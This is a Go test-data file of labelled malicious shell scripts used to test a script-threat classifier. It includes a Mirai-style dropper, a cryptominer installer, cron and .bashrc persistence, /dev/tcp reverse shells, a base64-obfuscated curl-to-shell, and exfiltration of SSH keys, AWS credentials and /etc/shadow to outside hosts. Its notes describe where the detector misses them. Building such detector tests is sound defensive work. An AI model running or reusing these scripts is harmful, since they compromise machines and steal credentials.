package testdata

// ===========================================================================
// Malicious scripts: droppers, miners, persistence, reverse shells
// ===========================================================================

// DropperCases are multi-stage download-and-execute droppers.
var DropperCases = []TestCase{

	// --- TRUE POSITIVES ---

	{
		ID: "TP-DROPPER-001",
		Script: `#!/bin/bash
cd /tmp || cd /var/run || cd /mnt
wget http://198.51.100.7/bins/x86_64 -O x86_64; chmod 777 x86_64; ./x86_64 telnet.x86_64.linux
wget http://198.51.100.7/bins/mips -O mips; chmod 777 mips; ./mips telnet.mips.linux
wget http://198.51.100.7/bins/arm -O arm; chmod 777 arm; ./arm telnet.arm.linux
wget http://198.51.100.7/bins/i686 -O i686; chmod 777 i686; ./i686 telnet.i686.linux
rm -rf .* ; history -c
`,
		ExpectedCategory: "Malicious",
		ExpectedFamilies: []string{
			"network_operations", "download_execute", "privilege_escalation",
			"file_operations", "multi_architecture", "cover_tracks",
		},
		Classification: "TP",
		Description: `Mirai-style botnet loader. Fetches one binary per CPU
			architecture, makes each world-executable and runs it, then
			wipes dotfiles and shell history. Every count-multiplier family
			saturates, so the threat score alone pushes it past the
			Malicious threshold.`,
		Tags: []string{"canonical", "botnet"},
	},
	{
		ID: "TP-DROPPER-002",
		Script: `#!/bin/sh
for a in x86_64 mips mipsel arm arm7 i686 powerpc sparc m68k; do
  busybox wget http://198.51.100.20/$a-linux -O /tmp/$a || curl -o /tmp/$a http://198.51.100.20/$a-linux
  chmod 777 /tmp/$a; cd /tmp; ./$a
done
rm -rf /tmp/* && history -c
`,
		ExpectedCategory: "Suspicious",
		ExpectedFamilies: []string{
			"network_operations", "download_execute", "privilege_escalation",
			"file_operations", "cover_tracks",
		},
		Classification: "TP",
		Description: `Loop-based loader. The architecture list sits on the
			for line without a "linux" suffix, so multi_architecture does
			not match and the script lands exactly on the Suspicious
			threshold (35.0). Guards the >= comparison.`,
		Tags: []string{"botnet", "boundary"},
	},
}

// MinerCases are cryptominer installers.
var MinerCases = []TestCase{
	{
		ID: "TP-MINER-001",
		Script: `#!/bin/sh
curl -s http://203.0.113.9/x.sh | sh
wget -q http://203.0.113.9/xmrig -O /tmp/.x; chmod 777 /tmp/.x; cd /tmp && ./.x
echo '@reboot /tmp/.x' | crontab -
sudo systemctl disable firewalld
nohup /tmp/.x &
history -c
`,
		ExpectedCategory: "Suspicious",
		ExpectedFamilies: []string{
			"network_operations", "download_execute", "privilege_escalation",
			"persistence", "process_hiding", "cover_tracks",
		},
		Classification: "TP",
		Description: `Miner install: pipe-to-shell stage, hidden binary in
			/tmp, cron persistence, firewall disabled with sudo, detached
			run and history wipe. Eight of twelve behaviors fire.`,
		Tags: []string{"canonical"},
	},
}

// PersistenceCases plant code that survives logout or reboot.
var PersistenceCases = []TestCase{
	{
		ID: "TP-PERSIST-001",
		Script: `#!/bin/bash
echo 'curl -s http://203.0.113.4/k | bash' >> ~/.bashrc
echo '*/5 * * * * curl -s http://203.0.113.4/k | bash' | crontab -
sudo systemctl enable backdoor.service
sudo chmod 777 /etc/rc.local
nohup ./k > /dev/null 2>&1 &
`,
		ExpectedCategory: "Suspicious",
		ExpectedFamilies: []string{
			"network_operations", "privilege_escalation", "persistence", "process_hiding",
		},
		Classification: "TP",
		Description: `Three persistence mechanisms at once (.bashrc, crontab,
			systemd unit) each re-fetching a remote payload, plus a
			world-writable rc.local.`,
		Tags: []string{"canonical", "boundary"},
	},
}

// ReverseShellCases open an interactive shell to a remote listener.
var ReverseShellCases = []TestCase{

	// --- FALSE NEGATIVES ---

	{
		ID:               "FN-REVSHELL-001",
		Script:           "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
		ExpectedCategory: "Malicious",
		Classification:   "FN",
		Description: `Classic one-line /dev/tcp reverse shell. The reverse
			shell family only knows "/bin/bash -i", so a bare "bash -i"
			scores network_operations alone (Safe, 1.8). Needs a pattern
			keyed on the /dev/tcp redirect target.`,
		Tags: []string{"canonical", "known-gap"},
	},
	{
		ID: "FN-REVSHELL-002",
		Script: `#!/bin/sh
(crontab -l; echo '* * * * * /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1') | crontab -
nohup /bin/sh -i > /dev/null 2>&1 &
`,
		ExpectedCategory: "Malicious",
		Classification:   "FN",
		Description: `Reverse shell installed into cron plus a detached
			interactive shell. Reverse shells carry a flat weight, so two
			distinct shells still add only 5 and the script rates Safe.`,
		Tags: []string{"known-gap"},
	},
}

// EvasionCases hide intent behind encoding or exfiltrate quietly.
var EvasionCases = []TestCase{

	// --- FALSE NEGATIVES ---

	{
		ID: "FN-OBFUSC-001",
		Script: `#!/bin/bash
echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3AgfCBzaA== | base64 -d | bash
eval $(echo aWQ= | base64 -d)
unset HISTFILE
`,
		ExpectedCategory: "Suspicious",
		Classification:   "FN",
		Description: `Base64-wrapped "curl ... | sh" decoded straight into
			bash. Only encoding_obfuscation and cover_tracks match. The
			payload is never decoded and rescanned, so it rates Safe.`,
		Tags: []string{"encoding", "evasion", "known-gap"},
	},
	{
		ID: "FN-EXFIL-001",
		Script: `#!/bin/bash
tar czf - ~/.ssh ~/.aws/credentials | curl -X POST --data-binary @- http://203.0.113.7/u
scp /etc/shadow root@203.0.113.7:/tmp/
cat /etc/passwd | nc 203.0.113.7 9001 > /dev/null
whoami; uname -a; id
`,
		ExpectedCategory: "Suspicious",
		Classification:   "FN",
		Description: `Credential and shadow-file exfiltration over HTTP, scp
			and netcat. Five families match, but all of them carry small
			weights and the behavior predicates have no notion of sensitive
			file reads, so the total stays in Safe (18.07).`,
		Tags: []string{"known-gap"},
	},
}
